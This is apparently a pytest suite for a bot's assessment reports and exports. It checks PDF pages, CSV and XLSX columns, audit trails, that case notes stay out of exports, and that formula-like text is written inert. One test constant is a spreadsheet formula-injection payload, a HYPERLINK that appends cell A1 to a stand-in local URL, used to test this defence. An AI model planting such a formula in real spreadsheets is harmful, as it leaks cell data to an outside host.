"""Reports and exports from a real database: the PDF's pages and words, the files' columns."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from apart_engine.instrument import AssessmentKind, default_instrument
from bot.clock import FixedClock
from bot.config import load_settings
from bot.export import columns, export_to, inert
from bot.reports import ReportError, write_case_report, write_team_report
from bot.runtime import open_services
from bot.seed import seed_cohort
from bot.store import Role
from tests.support.seed import submit
from tests.support.steps import assessment_steps, play
from tests.vignettes import VIGNETTES_DIR

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

    from bot.app import Services
    from bot.config import Settings
    from bot.runtime import StandInBot

UNTIL = date(2026, 12, 1)
NOTE = "Talks about an older boyfriend who collects her from the home."
FORMULA = '=HYPERLINK("http://127.0.0.1/x?"&A1,"open")'


@pytest.fixture
async def cohort(tmp_path: Path) -> AsyncIterator[Services]:
    """Services over a database holding a small synthetic cohort."""
    settings = load_settings(APART_DB_PATH=tmp_path / "cohort.db")
    clock = FixedClock(datetime(2026, 12, 4, 10, tzinfo=UTC))
    async with open_services(settings, clock=clock) as services:
        await seed_cohort(
            services.store, services.instrument, young_people=24, seed=7, until=UNTIL
        )
        yield services


def _pages(path: Path) -> list[str]:
    return [" ".join(page.extract_text().split()) for page in PdfReader(path).pages]


class TestTeamReport:
    async def test_the_report_has_its_pages_in_order(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        pdf = tmp_path / "team.pdf"
        result = await write_team_report(cohort, pdf, team="Synthetic North team")

        pages = _pages(pdf)
        assert result.pages == len(pages) == 8
        starts = [page.split(" APART outcomes")[0][:40] for page in pages]
        assert starts[0].startswith("Outcomes report")
        assert "Change from baseline by months of support" in pages[1]
        assert "Which areas moved most" in pages[2]
        assert "The caseload over time" in pages[3]
        assert "Risk indicators: change from baseline" in pages[4]
        assert "Resilience indicators: change from baseline" in pages[5]
        assert "Change by living situation at baseline" in pages[6]
        assert "How to read this report" in pages[7]

    async def test_the_summary_says_what_it_covers_on_one_page(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        """One report read twice over: the summary page, then the risk table's figures."""
        pdf = tmp_path / "team.pdf"
        await write_team_report(cohort, pdf, team="Synthetic North team")

        summary, risk_table = _pages(pdf)[0], _pages(pdf)[4]
        assert "SYNTHETIC DATA" in summary
        assert "Team: Synthetic North team" in summary
        assert "APART (default, modelled on the published design), version 1.0" in summary
        assert "Produced on 04 December 2026" in summary
        assert "In plain words" in summary
        assert "fewer than 5 young people" in summary
        assert "95% CI" in risk_table
        assert "not shown" in risk_table

    async def test_the_method_page_carries_the_caveats(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        pdf = tmp_path / "team.pdf"
        await write_team_report(cohort, pdf, team=None, min_group=1)

        method = " ".join(_pages(pdf)[7:])
        assert "regression to the mean" in method
        assert "no comparison group" in method
        assert "it is not DMSS's form" in method

    async def test_the_dates_limit_the_reviews_counted(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        pdf = tmp_path / "team.pdf"
        await write_team_report(
            cohort, pdf, team=None, from_date=date(2026, 6, 1), to_date=date(2026, 9, 30)
        )
        assert "Reviews from 01 June 2026 to 30 September 2026" in _pages(pdf)[0]

    async def test_reading_for_a_report_is_audited(self, cohort: Services, tmp_path: Path) -> None:
        """Seeded cases alternate over six practitioners: 1-3 North, 4-6 South."""
        await write_team_report(cohort, tmp_path / "team.pdf", team="Synthetic South team")
        south, north = await cohort.store.audit_trail(4), await cohort.store.audit_trail(1)
        assert [e["detail"] for e in south if e["action"] == "export"] == ["team report"]
        assert not [e for e in north if e["action"] == "export"]

    @pytest.mark.parametrize(
        ("options", "message"),
        [
            ({"team": "Nowhere team"}, 'There is no team "Nowhere team". The teams are:'),
            ({"team": None, "split": "age"}, '"age" is not a background question'),
            ({"team": None, "min_group": 0}, "at least 1"),
            ({"team": None, "from_date": date(2027, 1, 1)}, "swap the dates"),
        ],
    )
    async def test_a_request_that_cannot_be_met_says_what_to_change(
        self, cohort: Services, tmp_path: Path, options: dict[str, object], message: str
    ) -> None:
        with pytest.raises(ReportError, match=message):
            await write_team_report(cohort, tmp_path / "team.pdf", **options)  # type: ignore[arg-type]
        assert not (tmp_path / "team.pdf").exists()


class TestEmpty:
    async def test_a_database_without_assessments_still_gives_a_readable_report(
        self, settings: Settings, tmp_path: Path
    ) -> None:
        async with open_services(settings) as services:
            result = await write_team_report(services, tmp_path / "empty.pdf", team=None)
            files, count = await export_to(services, "csv", tmp_path / "empty.csv")

        assert (result.pages, result.young_people) == (8, 0)
        assert "0 young people had a baseline assessment" in _pages(tmp_path / "empty.pdf")[0]
        assert count == 0
        assert files[0].read_text("utf-8").startswith("reference,team,kind,assessed_on")


class TestExport:
    async def test_csv_round_trips_with_every_column_and_a_dictionary(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        files, count = await export_to(cohort, "csv", tmp_path / "data.csv")

        with files[0].open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        with files[1].open(encoding="utf-8", newline="") as file:
            dictionary = list(csv.DictReader(file))
        names = [c.name for c in columns(cohort.instrument)]
        assert files[1].name == "data-dictionary.csv"
        assert len(rows) == count > 50
        assert list(rows[0]) == names
        assert [d["column"] for d in dictionary] == names
        assert all(d["description"] for d in dictionary)
        first = rows[0]
        assert first["kind"] == "baseline"
        assert date.fromisoformat(first["assessed_on"]) == date.fromisoformat(first["baseline_on"])
        assert first["support_period"] == "baseline"
        assert float(first["risk_score"]) >= 0
        assert first["risk_band"] in {"Low", "Medium", "High"}
        assert all(r["reference"].startswith("SYN-") for r in rows)

    async def test_a_review_carries_months_since_baseline_and_its_period(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        files, _ = await export_to(cohort, "csv", tmp_path / "data.csv")
        with files[0].open(encoding="utf-8", newline="") as file:
            review = next(r for r in csv.DictReader(file) if r["kind"] == "review")
        days = int(review["days_since_baseline"])
        assert days > 0
        assert float(review["months_since_baseline"]) == pytest.approx(days / 30.44, abs=0.2)
        assert review["support_period"] in {"0-3", "3-6", "6-9", "9-12", "12+"}
        assert review["events"]

    async def test_xlsx_round_trips_with_real_dates_and_numbers(
        self, cohort: Services, tmp_path: Path
    ) -> None:
        files, count = await export_to(cohort, "xlsx", tmp_path / "data.xlsx")

        book = load_workbook(files[0])
        assert book.sheetnames == ["assessments", "dictionary"]
        sheet = book["assessments"]
        header = [cell.value for cell in sheet[1]]
        assert header == [c.name for c in columns(cohort.instrument)]
        rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(2, values_only=True)]
        assert len(rows) == count
        assert all(isinstance(r["assessed_on"], datetime) for r in rows)
        assert all(isinstance(r["risk_score"], float | int) for r in rows if r["risk_score"])
        ratings = {r["R1"] for r in rows}
        assert ratings <= {0, 1, 2, 3, None}
        assert None in {r["R2"] for r in rows} | {r["P3"] for r in rows}
        dictionary = list(book["dictionary"].iter_rows(2, values_only=True))
        assert [d[0] for d in dictionary] == header

    async def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
        self, settings: Settings, tmp_path: Path
    ) -> None:
        """A team named like a formula: a leading ' in CSV, and a plain string in XLSX."""
        async with open_services(settings) as services:
            team = await services.store.add_team(FORMULA)
            staff = await services.store.enrol(4101, team, Role.PRACTITIONER)
            case = await services.store.add_young_person("YP-F2", staff)
            await submit(services.store, case, staff, AssessmentKind.BASELINE, date(2026, 9, 1), 2)
            csv_files, _ = await export_to(services, "csv", tmp_path / "data.csv")
            xlsx_files, _ = await export_to(services, "xlsx", tmp_path / "data.xlsx")

        with csv_files[0].open(encoding="utf-8", newline="") as file:
            row = next(csv.DictReader(file))
        assert row["team"] == "'" + FORMULA
        assert row["reference"] == "YP-F2"
        cell = load_workbook(xlsx_files[0])["assessments"]["B2"]
        assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")

    @pytest.mark.parametrize(
        ("text", "written"),
        [
            ("=1+1", "'=1+1"),
            ("+44 20", "'+44 20"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("a=b", "a=b"),
            (-2, -2),
            (None, None),
        ],
    )
    def test_only_text_that_starts_a_formula_is_changed(
        self, text: str | int | None, written: str | int | None
    ) -> None:
        assert inert(text) == written

    async def test_every_export_is_audited(self, cohort: Services, tmp_path: Path) -> None:
        await export_to(cohort, "xlsx", tmp_path / "data.xlsx")
        audited = await cohort.store.audit_trail(1)
        assert [e["detail"] for e in audited if e["action"] == "export"] == ["xlsx export"]


class TestFromTheChat:
    """A case assessed through the chat, with notes, then reported on and exported."""

    @pytest.fixture
    async def assessed(self, running: StandInBot) -> Services:
        """YP-A1's four assessments, played through the chat by the practitioner."""
        instrument = default_instrument()
        vignette = json.loads((VIGNETTES_DIR / "YP-A1.json").read_text("utf-8"))
        client = running.client(5001, "Alex")
        for index in range(len(vignette["assessments"])):
            await play(client, assessment_steps(instrument, vignette, index, register=index == 0))
        return running.services

    async def test_notes_appear_only_when_asked_for(
        self, assessed: Services, tmp_path: Path
    ) -> None:
        plain, noted = tmp_path / "plain.pdf", tmp_path / "noted.pdf"
        await write_case_report(assessed, plain, reference="yp-a1")
        result = await write_case_report(assessed, noted, reference="YP-A1", with_notes=True)

        assert result.assessments == 4
        assert len(_pages(plain)) == 2
        assert NOTE not in " ".join(_pages(plain))
        assert "Case progress: YP-A1" in _pages(plain)[0]
        assert "Change from baseline to the latest assessment" in _pages(plain)[1]
        notes = _pages(noted)[2]
        assert "Notes" in notes
        assert NOTE in notes

    async def test_the_case_report_is_audited_with_or_without_notes(
        self, assessed: Services, tmp_path: Path
    ) -> None:
        await write_case_report(assessed, tmp_path / "c.pdf", reference="YP-A1", with_notes=True)
        trail = await assessed.store.audit_trail(1)
        assert [e["detail"] for e in trail if e["action"] == "export"] == [
            "case report with notes"
        ]

    async def test_an_unknown_case_gets_a_plain_answer(
        self, assessed: Services, tmp_path: Path
    ) -> None:
        with pytest.raises(ReportError, match="no submitted assessment for YP-Z9"):
            await write_case_report(assessed, tmp_path / "c.pdf", reference="YP-Z9")

    async def test_exports_never_hold_notes(self, assessed: Services, tmp_path: Path) -> None:
        files, count = await export_to(assessed, "csv", tmp_path / "data.csv")
        text = files[0].read_text("utf-8")
        assert count == 4
        assert NOTE not in text
        assert "Alex" not in text
        assert "5001" not in text
        row = next(csv.DictReader(text.splitlines()))
        assert row["risk_score"] == "62.5"
        assert row["living_situation"] == "residential_care"
        assert json.dumps(row["type_of_concern"]) == '"boyfriend_model;group_organised"'
